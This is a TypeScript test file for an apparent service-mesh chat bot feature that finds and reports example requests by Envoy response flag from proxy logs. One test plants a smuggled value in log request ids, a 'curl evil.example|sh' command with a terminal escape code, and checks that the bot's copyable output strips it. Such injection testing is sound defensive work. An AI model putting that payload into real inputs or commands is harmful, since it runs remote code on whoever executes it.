import { expect, it } from 'vitest'
import { carryOut } from '../../src/capabilities/carry-out.ts'
import { findFlagExample } from '../../src/capabilities/find-flag-example.ts'
import type { Clients } from '../../src/evidence/clients/clients.ts'
import { parseTarget } from '../../src/mesh/target-query.ts'
import { flagExampleText } from '../../src/report/flag-example-text.ts'
import { flagExample } from '../../src/capabilities/flag-example.ts'
import { createRun, readRun } from '../../src/store/runs.ts'
import { recordedClients } from '../replay.ts'
import { memoryRecords } from '../store/memory-records.ts'
import { capabilityDeps } from './deps.ts'
import { FakeThread } from './fake-thread.ts'

async function asked(flags: string[], text = 'catalog'): Promise<{ told: unknown; record: unknown }> {
  const records = memoryRecords()
  const thread = new FakeThread()
  const { deps } = capabilityDeps(records, {
    openThread: () => thread,
    clients: recordedClients('slow-endpoint/ill'),
  })
  const request = { kind: 'flag-example', text, namespace: 'istioinaction', flags }
  const run = await createRun(records, { request, asker: { user: 'U_ONCALL' }, channel: 'C_MESH' })
  await carryOut(deps, flagExample)({ run: run.id, kind: 'flag-example' }, new AbortController().signal)
  return { told: thread.told.at(-1), record: await readRun(records, run.id) }
}

it.each([
  ['UT', 504, /^istio-ingressgateway-/],
  ['DC', 0, /^catalog-v2-/],
])("shows the target's latest request with %s, and its record says how it ended", async (flag, code, pod) => {
  const { told, record } = await asked([flag])
  expect(told).toMatchObject([
    'answer',
    {
      kind: 'flag-example',
      found: {
        flags: [flag],
        example: { line: { code, flags: [flag], path: '/items' }, pod: { name: expect.stringMatching(pod) as string } },
      },
    },
  ])
  expect(record).toMatchObject({
    state: 'done',
    outcome: {
      verdict: 'shown',
      sentence: expect.stringMatching(/^The latest request to Service istioinaction\/catalog/) as string,
    },
  })
})

it('says how much it looked through where there is none', async () => {
  const { told, record } = await asked(['UAEX', 'RL'])
  expect(told).toMatchObject(['answer', { found: { flags: ['UAEX', 'RL'] } }])
  expect(JSON.stringify(told)).not.toContain('"example"')
  expect(record).toMatchObject({
    outcome: {
      sentence: expect.stringMatching(
        /^No request to Service istioinaction\/catalog with UAEX or RL among \d{2,} requests in the logs of 4 proxies\.$/,
      ) as string,
    },
  })
})

it('gives a command that is safe to be copied, whatever id a caller gave its request', async () => {
  const clients = recordedClients('slow-endpoint/ill')
  const { kubernetes } = clients
  const hostile: Clients = {
    ...clients,
    kubernetes: {
      ...kubernetes,
      log: async (...all) =>
        (await kubernetes.log(...all)).replaceAll(
          /"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f-]{22}"/g,
          () => '"x;curl evil.example|sh;\u001b[2J"',
        ),
    },
  }
  const found = await findFlagExample(parseTarget('catalog', 'istioinaction'), ['UT'], hostile, {
    signal: new AbortController().signal,
  })
  expect(found.example!.line.requestId).toContain('curl')
  expect(found.example!.command).toMatch(/ \| grep -F -e 2026-[\dT:.-]+Z$/)
  expect(flagExampleText(found)).not.toContain('curl')
  expect(flagExampleText(found)).not.toContain('\u001b')
})

it('names the nearest where there is no such target', async () => {
  const { told } = await asked(['UT'], 'catlog')
  expect(told).toMatchObject(['refused', { why: expect.stringContaining('catlog') as string }])
})
